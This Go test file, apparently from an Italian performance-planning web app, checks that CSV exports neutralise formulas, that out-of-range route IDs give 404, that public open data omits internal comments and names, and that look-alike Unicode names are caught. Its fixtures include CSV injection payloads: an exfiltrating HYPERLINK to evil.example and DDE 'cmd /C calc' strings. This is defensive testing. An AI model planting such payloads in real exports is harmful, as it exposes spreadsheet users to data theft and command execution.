package server_test

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"traguardo/internal/domain"
	"traguardo/internal/interchange"
	"traguardo/internal/plan"
	"traguardo/internal/server"
	"traguardo/internal/store"
	"traguardo/web/paths"
)

// The edges of issue 19: formula-safe CSV, route parameters past their
// range, the public open data and look-alike names.

// edgeValidate sends the 2023 Relazione and records the Nucleo's validation
// of version 1 through the store, with a stand-in PDF (the printing is not
// what these tests are about) and the JSON export the server would freeze.
func edgeValidate(t *testing.T, e *secEnv) {
	t.Helper()
	rpSend(t, e)
	ctx := context.Background()
	today := domain.Today(time.Now())
	export := func(c *plan.Cycle) ([]byte, error) {
		var b bytes.Buffer
		err := interchange.Encode(&b, c, e.st.Clock().Today())
		return b.Bytes(), err
	}
	c, err := e.st.LoadCycle(ctx, 2023)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := export(c)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := e.st.ValidateReport(ctx, store.Actor{Name: "Nucleo di prova"}, 2023, 1, store.Validation{
		Outcome: plan.ReportValidated, On: today, TextHTML: "<p>Il Nucleo valida la Relazione.</p>",
		PDF: []byte("%PDF-1.4 stand-in"), JSON: doc, Export: export}); err != nil {
		t.Fatalf("validating version 1: %v", err)
	}
}

// edgeFormula are the texts a spreadsheet would run as formulas.
var edgeFormula = map[string]string{
	"title":       `=HYPERLINK("http://evil.example/?d="&A1,"Clicca")`,
	"centre":      `@SUM(1+1)*cmd|' /C calc'!A0`,
	"indicator":   `+1+cmd|' /C calc'!A0`,
	"description": `-2+3+cmd|' /C calc'!A0`,
	"other title": "\t=1+1",
	"section":     "\r=1+1",
}

// edgeSetFormulas writes edgeFormula into the first objective of 2023, its
// centre and its first indicator, and the last objective, straight into the database (as an import
// of old would have left them).
func edgeSetFormulas(t *testing.T, e *secEnv) {
	t.Helper()
	ctx := context.Background()
	for _, q := range []struct {
		sql  string
		args []any
	}{
		{`UPDATE objectives SET title = $1, section = $2 WHERE id = $3`, []any{edgeFormula["title"], edgeFormula["section"], e.objectiveID}},
		{`UPDATE objectives SET title = $1 WHERE id = $2`, []any{edgeFormula["other title"], e.spareID}},
		{`UPDATE indicators SET name = $1, description = $2 WHERE id = (SELECT min(id) FROM indicators WHERE objective_id = $3)`,
			[]any{edgeFormula["indicator"], edgeFormula["description"], e.objectiveID}},
	} {
		if tag, err := e.pool.Exec(ctx, q.sql, q.args...); err != nil || tag.RowsAffected() != 1 {
			t.Fatalf("%s: %v (%d rows)", q.sql, err, tag.RowsAffected())
		}
	}
	// The centre through the store (a variation: the plan is approved).
	c := pcLoad(t, e, 2023)
	i := slices.IndexFunc(c.Centres, func(ce *plan.Centre) bool { return int64(ce.ID) == e.centreID })
	if err := e.st.UpdateCentre(ctx, store.Change{Actor: store.CLI, Version: c.Centres[i].Version,
		Variation: &store.Variation{On: time.Date(2023, 6, 15, 0, 0, 0, 0, time.UTC), Reason: "Riorganizzazione"}},
		c.Centres[i].ID, edgeFormula["centre"], c.Centres[i].Manager); err != nil {
		t.Fatalf("renaming the centre: %v", err)
	}
}

var edgeNumber = regexp.MustCompile(`^-?([0-9]+|[0-9]{1,3}(\.[0-9]{3})+)(,[0-9]+)?$`)

// edgeCheckCSV fails t when a cell of body would start a formula, or when
// a text of edgeFormula is missing (quoted) from it.
func edgeCheckCSV(t *testing.T, what, body string) {
	t.Helper()
	rows := readCSV(t, what, body)
	cells := map[string]bool{}
	for _, row := range rows {
		for _, cell := range row {
			cells[cell] = true
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !edgeNumber.MatchString(cell) {
				t.Errorf("%s: a cell starts a formula: %q", what, cell)
			}
		}
	}
	for k, v := range edgeFormula {
		if !cells["'"+v] {
			t.Errorf("%s: the %s %q is not there with a leading quote", what, k, v)
		}
	}
}

// TestCSV_FormulaSafe: titles, names and texts that begin with =, +, -, @,
// a tab or a carriage return never start a cell in the report's CSV or in
// the public indicators.csv; they are there, behind a single quote; the
// numbers are numbers.
func TestCSV_FormulaSafe(t *testing.T) {
	t.Parallel()
	e := rpEnv(t)
	edgeSetFormulas(t, e)
	dir := e.signedIn(t, "direttore")
	r := dir.get("/cicli/2023/relazione.csv")
	if r.Status != http.StatusOK {
		t.Fatalf("relazione.csv: %d", r.Status)
	}
	edgeCheckCSV(t, "relazione.csv", r.Body)

	edgeValidate(t, e)
	pub := e.client(t).get(paths.TransparencyFile(2023, 1, paths.PublicCSV))
	if pub.Status != http.StatusOK {
		t.Fatalf("public CSV: %d", pub.Status)
	}
	edgeCheckCSV(t, "public CSV", pub.Body)
	if !strings.HasPrefix(strings.SplitN(pub.Body, "\n", 3)[1], "2023;") {
		t.Errorf("public CSV: the year is not written as a number")
	}
}

// edgeOutOfRange are values of each route parameter that name no record:
// past int4 and int8, below the range, zero, negative.
var edgeOutOfRange = map[string][]string{
	"{year}":   {"2147483648", "99999999999999999999", "1999", "2101", "0", "-2023"},
	"{id}":     {"9223372036854775808", "0", "-1"},
	"{centre}": {"9223372036854775808", "0", "-1"},
	"{aid}":    {"9223372036854775808", "0", "-1"},
	"{iid}":    {"9223372036854775808", "0", "-1"},
	"{pid}":    {"9223372036854775808", "0", "-1"},
	"{nid}":    {"9223372036854775808", "0", "-1"},
	"{cid}":    {"9223372036854775808", "0", "-1"},
	"{n}":      {"2147483648", "9223372036854775808", "0", "-1"},
}

// TestRoutes_OutOfRangeParameters: every route with a number in its path,
// asked with a number past its column's range (or below it), answers 404
// to whoever may use the route, and never 500; the server logs no error
// (newSecEnv's logger fails the test on one). A year past int4 was a 500
// with an ERROR line, anonymously.
func TestRoutes_OutOfRangeParameters(t *testing.T) {
	t.Parallel()
	e := newSecEnv(t, server.Config{})
	clients := map[string]*secClient{}
	for _, role := range secRoles {
		clients[role] = e.signedIn(t, role)
	}
	asked := 0
	for _, route := range secRoutes(t, e.handler) {
		method, pattern, _ := strings.Cut(route, " ")
		if method != http.MethodGet && method != http.MethodPost {
			continue
		}
		for param, values := range edgeOutOfRange {
			if !strings.Contains(pattern, param) {
				continue
			}
			for _, v := range values {
				valid := e.path(t, method+" "+strings.ReplaceAll(pattern, param, "\x00"))
				p := strings.ReplaceAll(valid, "\x00", v)
				got404 := false
				for role, c := range clients {
					var r *secResponse
					if method == http.MethodGet {
						r = c.get(p)
					} else {
						r = c.post(p, url.Values{})
					}
					asked++
					switch r.Status {
					case http.StatusNotFound:
						got404 = true
					case http.StatusInternalServerError:
						t.Errorf("%s %s as %s: 500", method, p, role)
					}
				}
				if !got404 {
					t.Errorf("%s %s: no role got 404", method, p)
				}
			}
		}
	}
	if asked < 500 {
		t.Fatalf("only %d requests: the routes were not found", asked)
	}
}

// TestCentre_RenameKeepsManager: the director renames a centre of 2024 that
// 2023 shares; the cycle's centre keeps its organisational centre, so its
// manager still writes and submits for it (it was 403: the rename made a
// new organisational centre, which the manager's account is not bound to);
// 2023 keeps the old name.
func TestCentre_RenameKeepsManager(t *testing.T) {
	t.Parallel()
	e := newSecEnv(t, server.Config{})
	ids := monLoad(t, e)
	centre := func() *plan.Centre {
		c := pcLoad(t, e, 2024)
		i := slices.IndexFunc(c.Centres, func(ce *plan.Centre) bool { return ce.ID == ids.fin })
		if i < 0 {
			t.Fatalf("no centre %d in 2024", ids.fin)
		}
		return c.Centres[i]
	}
	before := centre().CentreID
	dir, fin := e.signedIn(t, "direttore"), e.manager(t, "finanziaria")
	edit := fmt.Sprintf("/cicli/2024/centri/%d/modifica", ids.fin)
	r := dir.post(edit, dir.withVersion(edit, url.Values{"name": {"AREA FINANZE E BILANCIO"}, "manager": {"Dott.ssa Rossi"}}))
	wantStatus(t, "renaming the centre", r, http.StatusSeeOther)
	after, name := centre().CentreID, centre().Name
	if after != before || name != "AREA FINANZE E BILANCIO" {
		t.Errorf("after the rename: organisational centre %d (was %d), name %q", after, before, name)
	}
	if got := pcLoad(t, e, 2023); !slices.ContainsFunc(got.Centres, func(ce *plan.Centre) bool { return ce.Name == "AREA FINANZIARIA" }) {
		t.Errorf("2023 lost the name AREA FINANZIARIA")
	}
	page := monPage(2024, ids.first, ids.fin)
	if r := fin.get(page); r.Status != http.StatusOK || !strings.Contains(r.Body, `data-testid="submit-form"`) || !strings.Contains(r.Body, "AREA FINANZE E BILANCIO") {
		t.Errorf("the manager's page after the rename: %d, submit form %v", r.Status, strings.Contains(r.Body, `data-testid="submit-form"`))
	}
	if r := fin.post(page+"/invia", url.Values{"version": {"0"}}); r.Status == http.StatusForbidden {
		t.Errorf("the manager's submission after the rename: 403")
	}
}

// edgeSecrets are texts written into the 2023 cycle that the open data must
// not publish: a manager's reason for a value not measured, a return
// comment on a submission, a progress report, a manager's name;
// edgeNeutralised is one it
// publishes, the reason of a neutralisation.
const (
	edgeGapReason   = "Motivo interno del responsabile: il collega era in ferie"
	edgeReturnNote  = "Commento di restituzione: rivedere i dati, sono incoerenti"
	edgeReportText  = "Bozza della relazione di avanzamento del responsabile"
	edgeNeutralised = "Dato non disponibile per cause esterne all'ente"
	edgeManager     = "Dott.ssa Maria Bianchi"
)

// TestPublic_OpenDataSaysNoMore: the public dati.json of a validated
// Relazione is the open data: the results with the neutralisation's reason,
// without the managers' reasons, the return comments, the progress reports,
// the managers' names and who neutralised; the internal frozen JSON keeps
// them all; the page, the headers and the bytes agree on its SHA-256.
func TestPublic_OpenDataSaysNoMore(t *testing.T) {
	t.Parallel()
	e := rpEnv(t)
	ctx := context.Background()
	for _, q := range []struct {
		sql  string
		args []any
	}{
		{`INSERT INTO indicator_values (indicator_id, period_id, value, not_measurable, reason) VALUES ($1, $2, NULL, true, $3)
			ON CONFLICT (indicator_id, period_id) DO UPDATE SET value = NULL, not_measurable = true, reason = $3`,
			[]any{e.indicatorID, e.periodID, edgeGapReason}},
		{`INSERT INTO submissions (period_id, cycle_centre_id, cycle_id, state, comment, submitted_at, reviewed_at)
			SELECT $1, $2, cycle_id, 'restituito', $3, now(), now() FROM periods WHERE id = $1`, []any{e.periodID, e.centreID, edgeReturnNote}},
		{`INSERT INTO progress_reports (objective_id, period_id, text_html) VALUES ($1, $2, $3)
			ON CONFLICT (objective_id, period_id) DO UPDATE SET text_html = $3`, []any{e.objectiveID, e.periodID, "<p>" + edgeReportText + "</p>"}},
		{`UPDATE cycle_centres SET manager = $2 WHERE id = $1`, []any{e.centreID, edgeManager}},
		{`UPDATE indicators SET neutralised_reason = $2, neutralised_by = 'nucleo' WHERE id = (SELECT max(id) FROM indicators WHERE objective_id = $1)`,
			[]any{e.spareID, edgeNeutralised}},
	} {
		if _, err := e.pool.Exec(ctx, q.sql, q.args...); err != nil {
			t.Fatalf("%s: %v", q.sql, err)
		}
	}
	edgeValidate(t, e)
	frozen := rpVersion(t, e, 1).json
	var full interchange.Document
	if err := json.Unmarshal(frozen, &full); err != nil {
		t.Fatal(err)
	}
	manager := edgeManager
	for _, s := range []string{edgeGapReason, edgeReturnNote, edgeReportText, edgeNeutralised, manager, `"by"`} {
		if !bytes.Contains(frozen, []byte(s)) {
			t.Fatalf("the frozen JSON lacks %q: the test proves nothing", s)
		}
	}
	// The signed-in still read the whole record.
	if r := e.signedIn(t, "nucleo").get("/cicli/2023/validazione/versioni/1/relazione.json"); r.Status != http.StatusOK || r.Body != string(frozen) {
		t.Errorf("the internal frozen JSON: %d, %d bytes, want the %d frozen", r.Status, len(r.Body), len(frozen))
	}

	anon := e.client(t)
	data := anon.get(paths.TransparencyFile(2023, 1, paths.PublicJSON))
	if data.Status != http.StatusOK {
		t.Fatalf("public JSON: %d", data.Status)
	}
	for _, s := range []string{edgeGapReason, edgeReturnNote, edgeReportText, manager, `"by"`, `"submissions"`, `"reports"`,
		`"activities"`, `"comment"`, `"manager"`, "@"} {
		if strings.Contains(data.Body, s) {
			t.Errorf("the public JSON publishes %q", s)
		}
	}
	var pub struct {
		Format string `json:"format"`
		Year   int    `json:"year"`
		Report struct {
			Version     int    `json:"version"`
			Outcome     string `json:"outcome"`
			ValidatedOn string `json:"validated_on"`
		} `json:"report"`
		Centres []struct {
			Name       string `json:"name"`
			Objectives []struct {
				Title      string `json:"title"`
				Indicators []struct {
					Name   string `json:"name"`
					Values []struct {
						Period        string `json:"period"`
						NotMeasurable bool   `json:"not_measurable"`
					} `json:"values"`
					Neutralised *struct {
						Reason string `json:"reason"`
					} `json:"neutralised"`
				} `json:"indicators"`
			} `json:"objectives"`
		} `json:"centres"`
	}
	if err := json.Unmarshal([]byte(data.Body), &pub); err != nil {
		t.Fatalf("the public JSON does not parse: %v", err)
	}
	if pub.Format != "traguardo/dati-aperti/v1" || pub.Year != 2023 || pub.Report.Version != 1 || pub.Report.Outcome != "validata" ||
		pub.Report.ValidatedOn != domain.Today(time.Now()).Format(time.DateOnly) || len(pub.Centres) != len(full.Centres) {
		t.Errorf("the public JSON's head: %q %d %+v, %d centres", pub.Format, pub.Year, pub.Report, len(pub.Centres))
	}
	if !strings.Contains(data.Body, edgeNeutralised) || !strings.Contains(data.Body, `"not_measurable": true`) {
		t.Errorf("the public JSON lacks the neutralisation's reason or the value not measurable")
	}
	indicators := 0
	for _, c := range pub.Centres {
		for _, o := range c.Objectives {
			indicators += len(o.Indicators)
		}
	}
	if n := secCount(t, e.pool, `SELECT count(*) FROM indicators i JOIN objectives o ON o.id = i.objective_id JOIN cycles c ON c.id = o.cycle_id WHERE c.year = 2023`); indicators != n {
		t.Errorf("the public JSON has %d indicators, want %d", indicators, n)
	}

	// The hash: of the bytes served, in the headers and on the page.
	sum := rpHash([]byte(data.Body))
	page := anon.get(paths.Transparency(2023))
	if data.Header.Get("X-Content-SHA256") != sum || !strings.Contains(page.Body, `data-testid="public-json-sha256">`+sum+`<`) {
		t.Errorf("SHA-256 of the public JSON %s; header %s; on the page: %v", sum, data.Header.Get("X-Content-SHA256"),
			strings.Contains(page.Body, sum))
	}
	if again := anon.get(paths.TransparencyFile(2023, 1, paths.PublicJSON)); again.Body != data.Body {
		t.Errorf("the public JSON changes between two requests")
	}
}

// TestNames_LookAlikesInForms: the forms take a name or an e-mail that
// differs from another only by invisible or bidirectional characters as
// that other: a second account for a manager's address is refused, a centre
// already in the cycle is refused, and a new centre is stored without them.
func TestNames_LookAlikesInForms(t *testing.T) {
	t.Parallel()
	e := newSecEnv(t, server.Config{})
	admin, dir := e.signedIn(t, "admin"), e.signedIn(t, "direttore")
	users := secCount(t, e.pool, `SELECT count(*) FROM users`)
	r := admin.post("/admin/utenti", url.Values{"email": {"responsabile.finanziaria\u200b@traguardo.test"}, "name": {"Responsabile\u202e bis"}, "role": {"osservatore"}})
	if r.Status != http.StatusUnprocessableEntity || secCount(t, e.pool, `SELECT count(*) FROM users`) != users {
		t.Errorf("a look-alike e-mail: status %d, %d accounts (were %d)", r.Status, secCount(t, e.pool, `SELECT count(*) FROM users`), users)
	}
	centres := secCount(t, e.pool, `SELECT count(*) FROM cycle_centres cc JOIN cycles c ON c.id = cc.cycle_id WHERE c.year = 2023`)
	r = dir.post("/cicli/2023/centri/nuovo", url.Values{"name": {"AREA FINANZIARIA\u200b"}, "manager": {""}})
	if r.Status != http.StatusUnprocessableEntity {
		t.Errorf("a look-alike centre: status %d, want 422", r.Status)
	}
	r = dir.post("/cicli/2023/centri/nuovo", url.Values{"name": {"\u202eAREA\u200b SPECCHIO"}, "manager": {""}})
	wantStatus(t, "a new centre with controls", r, http.StatusSeeOther)
	c := pcLoad(t, e, 2023)
	if len(c.Centres) != centres+1 || c.Centres[len(c.Centres)-1].Name != "AREA SPECCHIO" {
		t.Errorf("the new centre is not stored as AREA SPECCHIO: %q", c.Centres[len(c.Centres)-1].Name)
	}
}
